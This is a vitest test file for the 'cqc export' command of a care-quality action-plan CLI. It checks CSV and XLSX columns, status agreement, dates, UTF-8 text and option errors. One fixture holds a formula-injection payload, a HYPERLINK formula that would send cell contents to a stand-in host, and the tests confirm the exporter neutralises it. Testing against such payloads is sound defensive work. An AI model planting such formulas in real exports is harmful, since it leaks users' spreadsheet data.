// `cqc export` through the built CLI: the SPEC's columns and headers in order, one row per action,
// RAG and readiness exactly as `cqc status` gives them, effective risk areas, the first target in
// the target_ columns, real dates in XLSX, UTF-8, and no cell a spreadsheet would run as a formula.
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import readExcelFile from 'read-excel-file/node';
import { afterAll, describe, expect, it } from 'vitest';
import { cleanupRepos as cleanupGitRepos } from '../git/helpers.js';
import { cqc } from '../helpers/cli.js';
import { cleanupRepos } from '../rules/fixture.js';
import { AS_OF, committedRepo, csvRecords, exchangeRepo, SPEC_HEADERS } from './exchange-fixture.js';

afterAll(() => {
  cleanupRepos();
  cleanupGitRepos();
});

interface StatusJson { actions: { id: string; rag: string; ready: boolean }[] }

function statusOf(dir: string, git: boolean): Map<string, { rag: string; ready: string }> {
  const r = cqc(['status', '--format', 'json', '--as-of', AS_OF, ...(git ? [] : ['--no-git'])], { cwd: dir });
  expect(r.code, r.stderr).toBe(0);
  return new Map((JSON.parse(r.stdout) as StatusJson).actions.map((row) => [row.id, { rag: row.rag, ready: row.ready ? 'yes' : 'no' }]));
}

describe('cqc export --format csv', () => {
  const dir = exchangeRepo();
  const run = cqc(['export', '--as-of', AS_OF, '--no-git'], { cwd: dir });
  const records = csvRecords(run.stdout);
  const row = (id: string) => records.find((r) => r.id === id)!;

  it('prints plain UTF-8 CSV with LF line ends: the SPEC headers in order, one row per action by id', () => {
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toBe('');
    expect(run.stdout.includes('\r')).toBe(false);
    expect(run.stdout.split('\n')[0]!.split(',')).toEqual(SPEC_HEADERS);
    expect(records.map((r) => r.id)).toEqual(['IN-003', 'MH-001', 'NU-004', 'SUP-002']);
    expect(row('NU-004').title).toBe("Nutrition screening on Zoë's unit, led by Siân Ó'Brien");
  });

  it('writes a file for Excel with -o: the same rows, with a BOM and CRLF line ends', () => {
    const r = cqc(['export', '-o', 'plan.csv', '--as-of', AS_OF, '--no-git'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    const file = readFileSync(join(dir, 'plan.csv'), 'utf8');
    expect(file.startsWith('\uFEFFid,title,location,raised,')).toBe(true);
    expect(file.match(/\n/g)?.length).toBe(file.match(/\r\n/g)?.length);
    expect(file).toBe(`\uFEFF${run.stdout.replaceAll('\n', '\r\n')}`);
  });

  it('gives RAG and ready exactly as cqc status does', () => {
    const status = statusOf(dir, false);
    expect(records.map((r) => [r.id, { rag: r.rag, ready: r.ready }])).toEqual([...status.entries()].sort(([a], [b]) => a.localeCompare(b)));
    // The valid closed action stands; the held one is due within 14 days and cannot close yet.
    expect(row('MH-001')).toMatchObject({ rag: 'green', ready: 'yes' });
    expect(row('SUP-002')).toMatchObject({ rag: 'amber', ready: 'no' });
  });

  it('lists the effective risk areas: declared, and implied by statements, regulations and source', () => {
    // nutrition is declared; regulation 13 implies safeguarding.
    expect(row('NU-004').risk_areas).toBe('nutrition; safeguarding');
    // Nothing declared: well-led.* implies leadership.
    expect(row('SUP-002').risk_areas).toBe('leadership');
    expect(row('IN-003').risk_areas).toBe('');
  });

  it('puts the first target in the target_ columns and the ids of the others in other_targets', () => {
    expect(row('NU-004')).toMatchObject({
      target_measure: 'People screened with MUST on admission and monthly', target_unit: 'percent', target_goal: '95',
      target_direction: 'at_least', target_due: '2026-12-31', other_targets: 'weight-loss',
      required_evidence: 'audit; care_record', reviewer: 'registered-manager', approver: 'nominated-individual',
      quality_statements: 'effective.assessing-needs', regulations: '13', theme: 'nutrition-and-hydration',
    });
    expect(row('MH-001')).toMatchObject({
      location: 'rose-house', raised: '2026-09-01', status: 'closed', target_goal: '100', other_targets: '',
      decided_by: 'grace-okafor', decided_on: '2026-10-20', review_due: '2027-01-20',
    });
    expect(row('SUP-002')).toMatchObject({ decided_by: 'grace-okafor', decided_on: '2026-11-05', review_due: '' });
  });

  it('neutralises cells a spreadsheet would run as a formula', () => {
    expect(row('IN-003').title).toBe('\'=HYPERLINK("http://example.test/?leak="&A1,"Click")');
    expect(row('IN-003').source_ref).toBe("'@SUM(1+1)");
    expect(row('IN-003').location).toBe('');
  });

  it('lists one location\'s actions with --location, and refuses a location cqc.yaml does not list', () => {
    const oak = cqc(['export', '--as-of', AS_OF, '--no-git', '--location', 'oak-lodge'], { cwd: dir });
    expect(csvRecords(oak.stdout).map((r) => r.id)).toEqual(['NU-004']);
    const unknown = cqc(['export', '--no-git', '--location', 'elm-court'], { cwd: dir });
    expect(unknown.code).toBe(2);
    expect(unknown.stdout).toBe('');
    expect(unknown.stderr).toMatch(/^cqc: --location elm-court is not a location in cqc\.yaml\. Use one of: rose-house, oak-lodge\.\n$/);
  });

  it('says on stderr which action files it could not read, and still exports the rest', () => {
    const broken = exchangeRepo();
    writeFileSync(join(broken, 'actions', 'XX-001.yaml'), 'id: XX-001\ntitle: [unclosed\n');
    const r = cqc(['export', '--as-of', AS_OF, '--no-git'], { cwd: broken });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/1 action file could not be read and is not in the export: actions\/XX-001\.yaml\. Run "cqc check"/);
    expect(csvRecords(r.stdout)).toHaveLength(4);
  });
});

describe('cqc export with the git rules', () => {
  it('agrees with cqc status when the trail is read too', () => {
    const dir = committedRepo();
    const r = cqc(['export', '--as-of', AS_OF], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    const status = statusOf(dir, true);
    // The setup commit recorded Grace's decision, so the git rules find MH-001's closure forged.
    expect(status.get('MH-001')).toEqual({ rag: 'red', ready: 'no' });
    const records = csvRecords(r.stdout);
    expect(records.map((x) => x.id)).toEqual([...status.keys()].sort());
    for (const record of records) expect({ rag: record.rag, ready: record.ready }).toEqual(status.get(record.id!));
  });
});

describe('cqc export --format xlsx', () => {
  const dir = exchangeRepo();

  it('writes a workbook whose dates are date cells, goals numbers, text UTF-8 and neutralised', async () => {
    const r = cqc(['export', '--format', 'xlsx', '-o', 'plan.xlsx', '--as-of', AS_OF, '--no-git'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`Exported 4 actions to ${join(dir, 'plan.xlsx')}.\n`);
    const [sheet] = await readExcelFile(readFileSync(join(dir, 'plan.xlsx')), { trim: false });
    const [header, ...rows] = (sheet?.data ?? []) as unknown[][];
    expect(header).toEqual(SPEC_HEADERS);
    const cell = (id: string, column: string) => rows.find((x) => x[0] === id)?.[SPEC_HEADERS.indexOf(column)];
    expect(cell('MH-001', 'raised')).toEqual(new Date('2026-09-01T00:00:00Z'));
    expect(cell('MH-001', 'decided_on')).toEqual(new Date('2026-10-20T00:00:00Z'));
    expect(cell('NU-004', 'target_due')).toEqual(new Date('2026-12-31T00:00:00Z'));
    expect(cell('NU-004', 'target_goal')).toBe(95);
    expect(cell('NU-004', 'title')).toBe("Nutrition screening on Zoë's unit, led by Siân Ó'Brien");
    expect(cell('IN-003', 'title')).toBe('\'=HYPERLINK("http://example.test/?leak="&A1,"Click")');
    expect(cell('MH-001', 'ready')).toBe('yes');
    // Written through a temporary file and renamed: nothing else is left in the folder.
    expect(readdirSync(dir).filter((f) => f.includes('tmp'))).toEqual([]);
  });

  it('takes the format from the -o file name when --format is not given', async () => {
    const r = cqc(['export', '-o', 'by-name.xlsx', '--as-of', AS_OF, '--no-git'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    const [sheet] = await readExcelFile(readFileSync(join(dir, 'by-name.xlsx')));
    expect((sheet?.data[0] as unknown[])[0]).toBe('id');
  });

  it('needs -o: a workbook cannot go to the screen (exit 2, one line, nothing printed)', () => {
    for (const args of [['--format', 'xlsx'], ['--format', 'xlsx', '-o', '-']]) {
      const r = cqc(['export', ...args, '--no-git'], { cwd: dir });
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/^cqc: --format xlsx writes a workbook, which cannot be shown on the screen: give a file to write it to, e\.g\. -o actions\.xlsx\.\n$/);
    }
  });

  it('refuses a format it does not write, and a -o name that contradicts --format', () => {
    const ods = cqc(['export', '--format', 'ods', '--no-git'], { cwd: dir });
    expect([ods.code, ods.stderr]).toEqual([2, 'cqc: cqc export writes "csv" or "xlsx"; "ods" is not one of them.\n']);
    const clash = cqc(['export', '--format', 'csv', '-o', 'plan2.xlsx', '--no-git'], { cwd: dir });
    expect(clash.code).toBe(2);
    expect(clash.stderr).toContain('names a .xlsx file but --format is csv');
    expect(existsSync(join(dir, 'plan2.xlsx'))).toBe(false);
  });
});
